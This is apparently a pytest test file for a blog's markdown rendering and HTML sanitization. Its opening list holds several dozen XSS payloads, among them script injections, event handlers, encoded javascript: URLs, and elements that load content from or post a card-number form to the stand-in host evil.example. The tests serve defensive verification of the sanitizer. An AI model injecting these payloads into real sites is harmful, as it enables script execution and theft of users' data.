from html.parser import HTMLParser

import pytest

from blog.rendering import render_markdown, sanitize_html
from tests.factories import ArticleFactory

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)><circle r=1></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    "[click](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
    '<p onclick="alert(1)" onmouseover="alert(1)">hover</p>',
    '<a href="/" onfocus="alert(1)" autofocus>x</a>',
    "<details open ontoggle=alert(1)>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<base href="https://evil.example/">',
    "<marquee onstart=alert(1)>x</marquee>",
    '<video><source onerror="alert(1)"></video>',
    '<h2 id="x" onmouseenter="alert(1)">Heading</h2>',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<a href="https://ok.example" target="_blank" rel="opener">ok</a>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
]

SAFE_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "code", "del", "em", "h2", "h3", "h4", "h5", "h6",
    "hr", "i", "img", "li", "ol", "p", "pre", "strong", "table", "tbody", "td", "th", "thead",
    "tr", "ul",
}  # fmt: skip
SAFE_ATTRIBUTES = {"href", "title", "src", "alt", "id", "rel", "width", "height"}


class ElementCollector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.elements = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_sanitizer_strips_known_xss_payloads(payload):
    html = render_markdown(f"Before.\n\n{payload}\n\nAfter.").html
    collector = ElementCollector()
    collector.feed(html)

    for tag, attributes in collector.elements:
        assert tag in SAFE_TAGS, html
        assert set(attributes) <= SAFE_ATTRIBUTES, html
        for name in ("href", "src"):
            url = (attributes.get(name) or "").strip().lower()
            assert not url.startswith(("javascript:", "vbscript:", "data:")), html
        assert attributes.get("rel", "noopener") == "noopener", html
    assert "<script" not in html.lower()


def test_markdown_keeps_the_formatting_writers_use():
    html = render_markdown(
        "## Why it helps\n\nSome **bold**, some *emphasis* and a [link](/services/).\n\n"
        "- one\n- two\n\n> A quote\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    ).html

    assert '<h2 id="why-it-helps">Why it helps</h2>' in html
    assert "<strong>bold</strong>" in html and "<em>emphasis</em>" in html
    assert '<a href="/services/">link</a>' in html
    assert "<li>one</li>" in html and "<blockquote>" in html and "<td>1</td>" in html


def test_only_external_links_get_rel_noopener(settings):
    settings.SITE_URL = "https://spatheory.com"

    html = render_markdown(
        "[ours](/book/) [ours too](https://spatheory.com/services/) "
        "[theirs](https://www.nih.gov/health) [call](tel:+14045550199)"
    ).html

    assert '<a href="/book/">ours</a>' in html
    assert '<a href="https://spatheory.com/services/">ours too</a>' in html
    assert '<a href="https://www.nih.gov/health" rel="noopener">theirs</a>' in html
    assert '<a href="tel:+14045550199">call</a>' in html


def test_headings_get_anchors_and_build_the_table_of_contents():
    rendered = render_markdown(
        "## Before & after\n\ntext\n\n### The next day\n\ntext\n\n## Before & after"
    )

    assert rendered.headings == [
        {"id": "before-after", "title": "Before & after", "level": 2},
        {"id": "the-next-day", "title": "The next day", "level": 3},
        {"id": "before-after_1", "title": "Before & after", "level": 2},
    ]
    assert 'id="before-after"' in rendered.html and 'id="before-after_1"' in rendered.html


def test_reading_time_grows_with_the_text():
    assert render_markdown("Short.").reading_minutes == 1
    assert render_markdown("word " * 1000).reading_minutes == 5


def test_sanitize_html_leaves_plain_text_escaped():
    assert sanitize_html("5 < 6 & 7 > 3") == "5 &lt; 6 &amp; 7 &gt; 3"


@pytest.mark.django_db
def test_article_renders_its_body_on_save():
    article = ArticleFactory(body="## First\n\nHello <script>alert(1)</script>there.")

    assert '<h2 id="first">First</h2>' in article.body_html
    assert "<script" not in article.body_html
    assert article.headings == [{"id": "first", "title": "First", "level": 2}]

    article.body = "## Second\n\nChanged."
    article.save()
    article.refresh_from_db()
    assert '<h2 id="second">Second</h2>' in article.body_html
